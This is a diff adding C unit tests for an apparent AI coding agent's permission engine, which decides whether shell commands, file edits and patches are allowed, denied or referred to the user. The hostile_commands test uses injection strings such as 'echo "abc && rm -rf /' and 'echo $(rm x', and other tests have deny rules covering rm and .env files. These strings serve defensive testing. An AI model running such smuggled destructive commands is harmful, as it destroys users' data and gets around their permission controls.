+	n = snprintf(path, sizeof(path), "%s/secret", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
+	T_OK(rmdir(root) == 0);
+	free(root);
+}
+
+T_TEST(apply_patch_files)
+{
+	const char *allow[] = { "apply_patch(src/**)", NULL };
+	const char *deny[] = { "apply_patch(*.secret)", NULL };
+	struct perm_rules *r = rules_of(allow, NULL, deny);
+
+	T_EQ_INT(patch(r, PERM_ASK,
+	    "diff --git a/src/a.c b/src/a.c\n--- a/src/a.c\n+++ b/src/a.c\n@@ -1,2 +1,2 @@\n"
+	    " x\n-y\n+z\n--- a/src/b.c\t2024-01-01\n+++ b/src/b.c\t2024-01-01\n@@ -1 +1 @@\n-q\n+r\n"),
+	    PERM_VERDICT_ALLOW);
+	T_EQ_INT(patch(r, PERM_ASK,
+	    "--- a/src/a.c\n+++ b/src/a.c\n@@ -1 +1 @@\n-y\n+z\n--- a/etc/x\n+++ b/etc/x\n"
+	    "@@ -1 +1 @@\n-q\n+r\n"), PERM_VERDICT_ASK);
+	/* Hunk lines that look like headers are content, not files. */
+	T_EQ_INT(patch(r, PERM_ASK,
+	    "--- a/src/a.c\n+++ b/src/a.c\n@@ -1,2 +1,2 @@\n-- x\n++ y\n-- etc/z\n++ etc/z\n"),
+	    PERM_VERDICT_ALLOW);
+	T_EQ_INT(patch(r, PERM_ASK, "--- /dev/null\n+++ b/src/new.c\n@@ -0,0 +1 @@\n+hi\n"),
+	    PERM_VERDICT_ALLOW);
+	T_EQ_INT(patch(r, PERM_ASK, "--- a/src/x.secret\n+++ b/src/x.secret\n"),
+	    PERM_VERDICT_DENY);
+	T_EQ_INT(patch(r, PERM_ASK, "*** Begin Patch\n*** Update File: lib/a.c\n@@\n-x\n+y\n"),
+	    PERM_VERDICT_ASK);
+	T_EQ_INT(patch(r, PERM_ASK, "*** Begin Patch\n*** Add File: src/n.c\n+x\n"),
+	    PERM_VERDICT_ALLOW);
+	T_EQ_INT(patch(r, PERM_ASK, "garbage"), PERM_VERDICT_ASK);
+	T_EQ_INT(patch(r, PERM_ASK, ""), PERM_VERDICT_ASK);
+	T_EQ_INT(patch(r, PERM_ASK, "@@ -1,99999999999999999999 +1 @@\n"), PERM_VERDICT_ASK);
+	perm_rules_free(r);
+}
+
+T_TEST(rule_for)
+{
+	struct perm_rules *r;
+	struct buf err = BUF_INIT(BUF_NOLIMIT);
+	char *rule;
+
+	rule = rule_for("run_bash", "command", "make test");
+	T_EQ_STR(rule, "run_bash(make test)");
+	free(rule);
+	rule = rule_for("run_bash", "command", "  make   test ");
+	T_EQ_STR(rule, "run_bash(make test)");
+	free(rule);
+	rule = rule_for("run_bash", "command", "npm run build -- --mode production --config "
+	    "webpack.config.js --progress --profile");
+	T_EQ_STR(rule, "run_bash(npm run *)");
+	free(rule);
+	rule = rule_for("run_bash", "command", "ls\nrm x");
+	T_EQ_STR(rule, "run_bash(ls *)");
+	free(rule);
+	rule = rule_for("Bash", "command", "ls *.c");
+	T_EQ_STR(rule, "run_bash(ls \\*.c)");
+	r = rules_of(NULL, NULL, NULL);
+	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, rule, &err), 0);
+	T_EQ_INT(bash(r, PERM_ASK, "ls *.c"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "ls main.c"), PERM_VERDICT_ASK);
+	perm_rules_free(r);
+	free(rule);
+	rule = rule_for("run_bash", "command", "make && make test");
+	r = rules_of(NULL, NULL, NULL);
+	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, rule, &err), 0);
+	T_EQ_INT(bash(r, PERM_ASK, "make && make test"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "make && make test; rm x"), PERM_VERDICT_ASK);
+	perm_rules_free(r);
+	free(rule);
+	T_OK(rule_for("run_bash", "command", "   ") == NULL);
+
+	rule = rule_for("edit_file", "path", "./src/../src/a.c");
+	T_EQ_STR(rule, "edit_file(src/a.c)");
+	free(rule);
+	rule = rule_for("Write", "path", "a[1]*.c");
+	T_EQ_STR(rule, "write_file(a\\[1\\]\\*.c)");
+	r = rules_of(NULL, NULL, NULL);
+	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, rule, &err), 0);
+	T_EQ_INT(check(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "a[1]*.c"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(check(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "a1x.c"), PERM_VERDICT_ASK);
+	perm_rules_free(r);
+	free(rule);
+
+	rule = rule_for("apply_patch", "patch", "--- a/src/a.c\n+++ b/src/a.c\n");
+	T_EQ_STR(rule, "apply_patch(src/a.c)");
+	free(rule);
+	rule = rule_for("apply_patch", "patch",
+	    "--- a/src/x/a.c\n+++ b/src/x/a.c\n--- a/src/y/b.c\n+++ b/src/y/b.c\n");
+	T_EQ_STR(rule, "apply_patch(src/**)");
+	free(rule);
+	T_OK(rule_for("apply_patch", "patch", "--- a/a.c\n+++ b/a.c\n--- a/b.c\n+++ b/b.c\n") ==
+	    NULL);
+	T_OK(rule_for("apply_patch", "patch", "nothing") == NULL);
+	T_OK(rule_for("mcp_thing", "x", "y") == NULL);
+	buf_release(&err);
+}
+
+T_TEST(rules_copy_and_merge)
+{
+	const char *allow[] = { "run_bash(ls*)", NULL };
+	const char *deny[] = { "edit_file(.env)", NULL };
+	struct perm_rules *a = rules_of(allow, NULL, deny), *b, *c;
+	struct buf err = BUF_INIT(BUF_NOLIMIT);
+
+	b = perm_rules_dup(a);
+	T_EQ_INT(perm_rules_count(b, PERM_LIST_ALLOW), 1);
+	T_EQ_INT(perm_rules_count(b, PERM_LIST_DENY), 1);
+	T_EQ_INT(perm_rules_add(b, PERM_LIST_ASK, "write_file", &err), 0);
+	T_EQ_INT(perm_rules_count(a, PERM_LIST_ASK), 0);
+	c = perm_rules_new();
+	perm_rules_merge(c, a);
+	perm_rules_merge(c, b);
+	T_EQ_INT(perm_rules_count(c, PERM_LIST_ALLOW), 1);
+	T_EQ_INT(perm_rules_count(c, PERM_LIST_ASK), 1);
+	T_EQ_INT(perm_rules_count(c, PERM_LIST_DENY), 1);
+	T_EQ_STR(perm_list_name(PERM_LIST_DENY), "deny");
+	T_EQ_INT(perm_rules_count(c, (enum perm_list)7), 0);
+	perm_rules_free(a);
+	perm_rules_free(b);
+	perm_rules_free(c);
+	perm_rules_free(NULL);
+	buf_release(&err);
+}
+
+T_TEST(hostile_commands)
+{
+	const char *allow[] = { "run_bash(echo *)", NULL };
+	const char *deny[] = { "run_bash(rm *)", NULL };
+	struct perm_rules *r = rules_of(allow, NULL, deny), *no_deny = rules_of(allow, NULL, NULL);
+	struct buf c = BUF_INIT(BUF_NOLIMIT);
+	size_t i;
+
+	/*
+	 * Nesting deeper than the scanner follows is never allowed by a pattern,
+	 * and is denied when deny rules could not be checked.
+	 */
+	for (i = 0; i < 40; i++)
+		buf_puts(&c, "echo $(");
+	buf_puts(&c, "echo x");
+	for (i = 0; i < 40; i++)
+		buf_putc(&c, ')');
+	T_EQ_INT(bash(r, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_DENY);
+	T_CONTAINS(buf_cstr(&why), "nests too deeply");
+	T_EQ_INT(bash(no_deny, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(no_deny, PERM_YOLO, buf_cstr(&c)), PERM_VERDICT_ALLOW);
+	buf_reset(&c);
+	for (i = 0; i < 40; i++)
+		buf_puts(&c, "eval ");
+	buf_puts(&c, "echo x");
+	T_EQ_INT(bash(r, PERM_YOLO, buf_cstr(&c)), PERM_VERDICT_DENY);
+	T_EQ_INT(bash(no_deny, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_ASK);
+	buf_reset(&c);
+	for (i = 0; i < 40; i++)
+		buf_puts(&c, "bash -c \"");
+	T_EQ_INT(bash(r, PERM_YOLO, buf_cstr(&c)), PERM_VERDICT_ALLOW);
+	buf_reset(&c);
+	for (i = 0; i < 100000; i++)
+		buf_puts(&c, "echo a; ");
+	T_EQ_INT(bash(r, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_ALLOW);
+	buf_puts(&c, "rm x");
+	T_EQ_INT(bash(r, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_DENY);
+	/* Unterminated quotes and substitutions end at the end. */
+	T_EQ_INT(bash(r, PERM_ASK, "echo \"abc && rm -rf /"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo $(rm x"), PERM_VERDICT_DENY);
+	T_EQ_INT(bash(r, PERM_ASK, "echo `rm x"), PERM_VERDICT_DENY);
+	T_EQ_INT(bash(r, PERM_ASK, "echo 'x"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo \\"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, ")))((("), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(no_deny, PERM_ASK, "<<"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "<<"), PERM_VERDICT_DENY);
+	T_EQ_INT(bash(no_deny, PERM_ASK, "cat <<A <<B <<C <<D <<E <<F <<G <<H <<I <<J\nx"),
+	    PERM_VERDICT_ASK);
+	/* A command that is not a string is no command. */
+	{
+		cJSON *in = cJSON_Parse("{\"command\": 42}");
+
+		T_EQ_INT(perm_check(r, PERM_ASK, "run_bash", TOOL_HIGH_IMPACT, in, NULL),
+		    PERM_VERDICT_ASK);
+		cJSON_Delete(in);
+	}
+	buf_release(&c);
+	perm_rules_free(r);
+	perm_rules_free(no_deny);
+}
+
+int
+main(void)
+{
+	T_RUN(rule_syntax);
+	T_RUN(aliases);
+	T_RUN(mode_names);
+	T_RUN(bash_globs);
+	T_RUN(bash_compound);
+	T_RUN(bash_exact_whole);
+	T_RUN(bash_redirects);
+	T_RUN(bash_heredocs);
+	T_RUN(bash_deny_everywhere);
+	T_RUN(deny_wins_in_every_mode);
+	T_RUN(plan_mode);
+	T_RUN(ask_rules);
+	T_RUN(mode_defaults);
+	T_RUN(path_globs);
+	T_RUN(path_globs_are_not_exponential);
+	T_RUN(paths_against_root);
+	T_RUN(apply_patch_files);
+	T_RUN(rule_for);
+	T_RUN(rules_copy_and_merge);
+	T_RUN(hostile_commands);
+	buf_release(&why);
+	return t_done();
+}
